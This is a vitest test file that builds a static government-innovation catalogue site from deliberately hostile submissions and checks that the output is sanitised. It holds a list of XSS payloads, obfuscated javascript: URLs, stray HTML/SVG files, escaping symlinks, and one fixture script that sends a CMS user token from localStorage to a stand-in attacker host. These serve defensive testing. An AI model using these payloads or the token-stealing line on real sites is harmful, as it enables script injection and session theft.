import {
	existsSync,
	mkdtempSync,
	readdirSync,
	readFileSync,
	rmSync,
	symlinkSync,
	writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createTempSite } from '../helpers/temp-site.ts';
import { findXmlProblems } from '../helpers/xml.ts';
import { PEMDA_YML, PDF_BYTES, minimalInnovation } from '../helpers/temp-repo.ts';

const HOSTILE_BODY = `
<script>alert('xss-script')</script>

<img src=x onerror="alert('xss-img')">

<svg onload=alert('xss-svg')></svg>

<iframe src="https://jahat.example/"></iframe>

[klik](javascript:alert('xss-link'))

<a href="javascript:alert('xss-anchor')">tautan</a>

![gambar](javascript:alert('xss-image'))

[tautan luar](https://luar.example/halaman)

[huruf besar](JAVASCRIPT:alert('xss-upper'))

[spasi]( javascript:alert('xss-space'))

[kurung](<javascript:alert('xss-angle')>)

[entitas](javascript&#58;alert('xss-entity'))

[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

[referensi][r]

[r]: javascript:alert('xss-ref')

<style>body{display:none}</style>

<object data="javascript:alert('xss-object')"></object>

<form action="javascript:alert('xss-form')"><button>kirim</button></form>

<a href="&#x6A;avascript:alert('xss-hex')">hex</a>

<details open ontoggle="alert('xss-toggle')"></details>
`;

function hostileInnovation(): string {
	return minimalInnovation()
		.replace('## Tujuan\n', `## Tujuan\n${HOSTILE_BODY}`)
		.replace(
			'bukti: [https://dinkes.tanahbumbukab.go.id/laporan.pdf]',
			"bukti: ['https://jahat.example/\"><script>alert(1)</script>']"
		)
		.replace(/contoh\//g, 'jahat/');
}

let site: ReturnType<typeof createTempSite>;
let outside: string;
let result: ReturnType<ReturnType<typeof createTempSite>['build']>;

beforeAll(() => {
	site = createTempSite({
		'content/pemda.yml': PEMDA_YML,
		'content/skpd/dinkes.yml': 'nama: Dinas Kesehatan\nsingkatan: Dinkes\n',
		'content/inovasi/dinkes/jahat.md': hostileInnovation(),
		'content/inovasi/dinkes/rusak.md': minimalInnovation().replace(
			'jenis: digital',
			'jenis: daring'
		),
		// Controls and a bidi override in plain-text fields once made rss.xml unreadable for everyone.
		'content/inovasi/dinkes/kendali.md': minimalInnovation()
			.replace(
				'nama: Contoh Inovasi Layanan Puskesmas',
				'nama: "Judul \\u202Etxt.exe\\u0007 \\uFFFF"'
			)
			.replace(/contoh\//g, 'kendali/'),
		'public/bukti/dinkes/jahat/sk.pdf': PDF_BYTES,
		'public/bukti/dinkes/jahat/foto.png': Uint8Array.from([
			0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13,
		]),
		'public/bukti/pemda/rpjmd.pdf': PDF_BYTES,
		// Stray files a PR or a CMS upload could add: each would run on the site's origin.
		'public/bukti/index.html': '<script>alert("xss-stray")</script>',
		'public/bukti/dinkes/x.html': '<script>alert("xss-stray")</script>',
		'public/bukti/dinkes/jahat/logo.svg':
			'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
		'public/bukti/dinkes/jahat/curi.js':
			'fetch("https://jahat.example/?t=" + localStorage.getItem("decap-cms-user"))',
	});
	outside = mkdtempSync(join(tmpdir(), 'katalog-luar-'));
	writeFileSync(join(outside, 'rahasia.pdf'), PDF_BYTES);
	symlinkSync(
		join(outside, 'rahasia.pdf'),
		join(site.root, 'public/bukti/dinkes/jahat/rahasia.pdf')
	);
	symlinkSync(outside, join(site.root, 'public/bukti/dinkes/folder-luar'));
	symlinkSync(
		join(outside, 'tidak-ada.pdf'),
		join(site.root, 'public/bukti/dinkes/jahat/putus.pdf')
	);
	result = site.build();
}, 180_000);

afterAll(() => {
	site.cleanup();
	rmSync(outside, { recursive: true, force: true });
});

describe('a site built from hostile and broken submissions', () => {
	test('builds, skipping the broken file and naming it in the log', () => {
		expect(result.status, result.stderr).toBe(0);
		expect(result.stdout + result.stderr).toContain(
			'content/inovasi/dinkes/rusak.md:6:8: galat: jenis:'
		);
		expect(existsSync(join(site.root, 'dist/inovasi/dinkes/rusak/index.html'))).toBe(false);
	});

	test('no script, event handler, iframe or javascript: URL from the submission reaches the page', () => {
		const html = readFileSync(join(site.root, 'dist/inovasi/dinkes/jahat/index.html'), 'utf8');
		const scripts = [...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/gi)].map(
			(match) => match[1]
		);
		expect(scripts.filter((code) => /alert|xss/.test(code ?? ''))).toEqual([]);
		expect(html).not.toMatch(/<(iframe|object|form|embed)\b[^>]*>/i);
		// The page's own score breakdown (details) is the only one, and the page has no svg of its
		// own: nothing of the kind comes from the submission's body.
		const start = html.indexOf('class="body"');
		const body = html.slice(start, html.indexOf('</section>', start));
		expect(start).toBeGreaterThan(0);
		expect(body).not.toMatch(/<(svg|details)\b[^>]*>/i);
		expect(html).not.toMatch(/<svg\b/i);
		expect(html.match(/<details\b/gi)).toHaveLength(1);
		// The page has its own <style>; the submission's must not become one.
		expect(html).not.toContain('<style>body{display:none}');
		expect(html).not.toMatch(
			/<[a-z][^>]*\s(href|src|action|data)\s*=\s*["']?\s*(data:|vbscript:|&#)/i
		);
		// The Markdown image stays an image, but its javascript: source is gone.
		expect(html).toMatch(/<img alt="gambar" loading="lazy" decoding="async">/);
		// No tag carries an event handler (escaped text such as `&lt;img onerror=` is fine).
		expect(html).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i);
		expect(html).not.toMatch(/<[a-z][^>]*\s(href|src)\s*=\s*["']?\s*javascript:/i);
		// The raw HTML is shown as text, so the writer can see what was dropped.
		expect(html).toMatch(/(&lt;|&#x3C;)script(>|&gt;)alert\('xss-script'\)/);
	});

	test('only audited files of public/ are published: stray pages, scripts, SVG and links are logged and left out', () => {
		const log = result.stdout + result.stderr;
		const published = readdirSync(join(site.root, 'dist/bukti'), { recursive: true })
			.map(String)
			.sort();
		expect(published).toEqual([
			'dinkes',
			'dinkes/jahat',
			'dinkes/jahat/foto.png',
			'dinkes/jahat/sk.pdf',
			'pemda',
			'pemda/rpjmd.pdf',
		]);
		for (const file of [
			'public/bukti/index.html',
			'public/bukti/dinkes/x.html',
			'public/bukti/dinkes/jahat/logo.svg',
			'public/bukti/dinkes/jahat/curi.js',
			'public/bukti/dinkes/jahat/rahasia.pdf',
			'public/bukti/dinkes/folder-luar',
			'public/bukti/dinkes/jahat/putus.pdf',
		]) {
			expect(log).toContain(`${file}:1:1: galat:`);
		}
		expect(log).toContain('7 berkas di public/ tidak diterbitkan');
	});

	test('rss.xml and sitemap.xml parse as XML; a title with control characters is refused and named', () => {
		expect(result.stdout + result.stderr).toContain(
			'content/inovasi/dinkes/kendali.md:2:7: galat: nama: berisi karakter tak terlihat U+202E'
		);
		for (const file of ['dist/rss.xml', 'dist/sitemap.xml'])
			expect(findXmlProblems(readFileSync(join(site.root, file), 'utf8')), file).toEqual([]);
		expect(findXmlProblems('<a>b\u0007</a>')).toEqual(['karakter U+7 di posisi 4']);
	});

	test('external links in the body get rel="noopener noreferrer"', () => {
		const html = readFileSync(join(site.root, 'dist/inovasi/dinkes/jahat/index.html'), 'utf8');
		expect(html).toMatch(
			/<a href="https:\/\/luar\.example\/halaman" rel="noopener noreferrer">tautan luar<\/a>/
		);
		expect(html).not.toContain('"><script>alert(1)');
	});
});
